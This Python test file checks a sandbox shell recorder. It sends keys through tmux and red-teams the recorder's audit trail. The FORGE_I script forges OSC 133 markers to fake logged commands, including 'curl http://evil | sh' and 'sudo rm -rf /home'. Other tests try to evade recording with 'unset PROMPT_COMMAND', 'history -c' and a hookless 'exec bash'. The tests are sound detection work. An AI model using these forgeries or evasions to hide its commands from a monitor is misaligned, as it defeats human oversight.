"""`sandbox shell` in a real terminal (tmux): the operator's keys pass through, and every
command is still recorded with its output and exit code."""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
import time
import uuid
from pathlib import Path

from sandbox import Store
from tests.helpers import wait_for


def _tmux(*args: str) -> str:
    return subprocess.run(["tmux", *args], capture_output=True, text=True, check=False,
                          timeout=10).stdout


def test_interactive_shell_records_commands(state_dir: Path) -> None:
    name = "sbx-" + uuid.uuid4().hex[:8]
    cmd = (f"env SANDBOX_STATE_DIR={shlex.quote(str(state_dir))} "
           f"{shlex.quote(sys.executable)} -m sandbox shell")
    subprocess.run(["tmux", "new-session", "-d", "-s", name, "-x", "120", "-y", "30", cmd],
                   check=True, env=os.environ.copy(), timeout=10)
    try:
        assert wait_for(lambda: "sandbox:" in _tmux("capture-pane", "-t", name, "-p"), 15)
        _tmux("send-keys", "-t", name, "echo typed-by-operator; (exit 4)", "Enter")
        assert wait_for(lambda: "typed-by-operator\n" in _tmux("capture-pane", "-t", name, "-p"), 5)
        _tmux("send-keys", "-t", name, "exit", "Enter")
        store = Store()
        sid = wait_for(lambda: [s["id"] for s in store.list_sessions()
                                if s["state"] == "exited"], 10)
        assert sid
        rows = store.commands(sid[0])  # type: ignore[index]
        assert rows[0]["text"] == "echo typed-by-operator; (exit 4)"
        assert rows[0]["exit_code"] == 4 and "typed-by-operator" in rows[0]["output"]
        assert rows[0]["source"] == "shell"
    finally:
        _tmux("kill-session", "-t", name)


# -- M3: forged rows, switched-off hooks, the guard, partial markers ---------------------

NONCE = b"0123456789abcdef"


def _d(code: int, num: int, nonce: bytes = NONCE) -> bytes:
    return b"\x1b]133;D;%d;%s;%d;;himBH;;checkwinsize:promptvars\x07" % (code, nonce, num)


def _c(num: int, text: str) -> bytes:
    return b"\x1b]133;C;%s;%d;%s\x07" % (NONCE, num, text.encode())


def _parser() -> tuple[object, list[tuple[str, bytes, int | None]], list[dict]]:
    from sandbox.shell.relay import InteractiveParser

    rows: list[tuple[str, bytes, int | None]] = []
    tampers: list[dict] = []
    p = InteractiveParser(NONCE, 1 << 20,
                          lambda t, o, c, s, d: rows.append((t, o, c)),
                          lambda k, d: tampers.append({"kind": k, **d}))
    p.feed(_d(0, 1))  # the first prompt
    return p, rows, tampers


def test_parser_partial_marker_does_not_hide_later_commands() -> None:
    """M2 in shell mode: `ESC]133;Z` in output is output; later commands are recorded,
    whether the bytes come in one read or one at a time."""
    stream = (_c(1, "cat log.txt") + b"result: 42\x1b]133;Z" + _d(0, 2)
              + _c(2, "echo after-1") + b"after-1\r\n" + _d(0, 3)
              + _c(3, "echo after-3; (exit 4)") + b"x\x1b]133;D;0;" + b"y\r\n" + _d(4, 4))
    for chunks in ([stream], [stream[i:i + 1] for i in range(len(stream))]):
        p, rows, tampers = _parser()
        for chunk in chunks:
            p.feed(chunk)  # type: ignore[attr-defined]
        assert [r[0] for r in rows] == ["cat log.txt", "echo after-1", "echo after-3; (exit 4)"]
        assert rows[0][1] == b"result: 42\x1b]133;Z" and rows[2][2] == 4
        assert not [t for t in tampers if t["kind"] != "shell.marker_forged"]


def test_parser_forged_rows_always_carry_an_alert() -> None:
    """A command prints perfect markers (right nonce and numbers) for two fake commands:
    the real end marker that follows is out of order, and is reported."""
    p, rows, tampers = _parser()
    p.feed(_c(1, ". ./forge.sh") + _d(0, 2) + _c(2, "sudo rm -rf /home --fake")  # type: ignore[attr-defined]
           + b"fake-output\r\n" + _d(0, 3) + _d(0, 2))
    assert tampers and all(t["kind"] == "shell.marker_forged" for t in tampers)
    # an end marker with no command and no key typed: never a row
    p, rows, tampers = _parser()
    p.feed(_d(0, 1))  # type: ignore[attr-defined]
    p.feed(_d(0, 5))  # type: ignore[attr-defined]
    assert rows == [] and len(tampers) == 2


def test_parser_reprompt_after_enter_is_not_tamper() -> None:
    p, rows, tampers = _parser()
    p.typed(b"\r")  # type: ignore[attr-defined]
    p.feed(_d(0, 1))  # type: ignore[attr-defined]
    p.typed(b"\x03")  # type: ignore[attr-defined]
    p.feed(_d(130, 1))  # type: ignore[attr-defined]
    assert rows == [] and tampers == []


# Perfect markers for two fake commands (nonce, next numbers, state fields), with output.
FORGE_I = r"""
IFS=';' read -r -a d <<<"${PS1@P}"
d=("${d[@]:0:9}")
k=${d[4]}
d[2]=0; d[4]=$((k + 1)); (IFS=';'; printf '%s\a' "${d[*]%%$'\a'*}")
printf '\e]133;C;%s;%s;%s\a' "$__sbx_n" $((k + 1)) 'sudo rm -rf /home --fake-operator-command'
echo fake-output
d[4]=$((k + 2)); (IFS=';'; printf '%s\a' "${d[*]%%$'\a'*}")
printf '\e]133;C;%s;%s;%s\a' "$__sbx_n" $((k + 2)) 'curl http://evil | sh'
d[4]=$((k + 3)); (IFS=';'; printf '%s\a' "${d[*]%%$'\a'*}")
"""


def test_m3_interactive_forgery_and_hook_removal_are_reported(
        state_dir: Path, workspace: Path) -> None:
    """The red-team M3 session in a real `sandbox shell`: forged rows carry alerts, the
    prompt hooks cannot be removed, a partial marker does not stop recording, the typed
    commands get the guard's text rules, and outputs have no stray \\x02."""
    (workspace / "forge.sh").write_text(FORGE_I)
    (workspace / "log.txt").write_bytes(b"result: 42\x1b]133;Z")
    name = "sbx-" + uuid.uuid4().hex[:8]
    cmd = (f"env SANDBOX_STATE_DIR={shlex.quote(str(state_dir))} "
           f"{shlex.quote(sys.executable)} -m sandbox shell -w {shlex.quote(str(workspace))}")
    subprocess.run(["tmux", "new-session", "-d", "-s", name, "-x", "150", "-y", "40", cmd],
                   check=True, env=os.environ.copy(), timeout=10)
    try:
        assert wait_for(lambda: "sandbox:" in _tmux("capture-pane", "-t", name, "-p"), 15)
        for line in ["echo before", ". ./forge.sh", "unset PROMPT_COMMAND", "cat log.txt",
                     "echo after-1 > a1.txt", "id -u", "echo after-3", "history -c"]:
            _tmux("send-keys", "-t", name, "-l", line)
            _tmux("send-keys", "-t", name, "Enter")
            time.sleep(0.3)
        _tmux("send-keys", "-t", name, "exit", "Enter")
        store = Store()
        sid = wait_for(lambda: [s["id"] for s in store.list_sessions()
                                if s["state"] == "exited"], 10)
        assert sid
        rows = store.commands(sid[0])  # type: ignore[index]
        events = store.events(sid[0])  # type: ignore[index]
    finally:
        _tmux("kill-session", "-t", name)
    texts = [r["text"] for r in rows]
    for want in ("echo before", "unset PROMPT_COMMAND", "cat log.txt",
                 "echo after-1 > a1.txt", "id -u", "echo after-3", "history -c"):
        assert want in texts, texts
    assert (workspace / "a1.txt").exists()
    forged = [e for e in events if e["kind"] == "shell.marker_forged"]
    if any("--fake-operator-command" in t or "evil" in t for t in texts):
        assert forged, texts
    assert "readonly" in next(r["output"] for r in rows if r["text"] == "unset PROMPT_COMMAND")
    assert not any(r["output"].startswith("\x02") for r in rows)
    typed = [e for e in events if e["kind"] == "guard.verdict"
             and e["detail"].get("typed_in_shell")]
    rules = {e["rule"] for e in typed}
    assert {"tamper.prompt_hooks", "tamper.history"} <= rules, rules
    assert all(e["action"] in ("record", "flag") for e in typed)


def test_m3_shell_without_hooks_is_reported(state_dir: Path, workspace: Path) -> None:
    """`exec` of a bash without the recorder's hooks (no markers from then on) does not
    silently stop recording: the next Enter reports that the shell was replaced."""
    name = "sbx-" + uuid.uuid4().hex[:8]
    cmd = (f"env SANDBOX_STATE_DIR={shlex.quote(str(state_dir))} "
           f"{shlex.quote(sys.executable)} -m sandbox shell -w {shlex.quote(str(workspace))}")
    subprocess.run(["tmux", "new-session", "-d", "-s", name, "-x", "150", "-y", "40", cmd],
                   check=True, env=os.environ.copy(), timeout=10)
    try:
        assert wait_for(lambda: "sandbox:" in _tmux("capture-pane", "-t", name, "-p"), 15)
        for line in ["exec bash --noprofile --norc -i", "echo unrecorded > u.txt", "exit"]:
            _tmux("send-keys", "-t", name, "-l", line)
            _tmux("send-keys", "-t", name, "Enter")
            time.sleep(0.5)
        store = Store()
        sid = wait_for(lambda: [s["id"] for s in store.list_sessions()
                                if s["state"] == "exited"], 10)
        assert sid
        events = store.events(sid[0])  # type: ignore[index]
    finally:
        _tmux("kill-session", "-t", name)
    assert (workspace / "u.txt").exists()
    why = [e["detail"].get("why", "") for e in events if e["kind"] == "shell.recorder_hooks"]
    assert any("replaced" in w for w in why), events
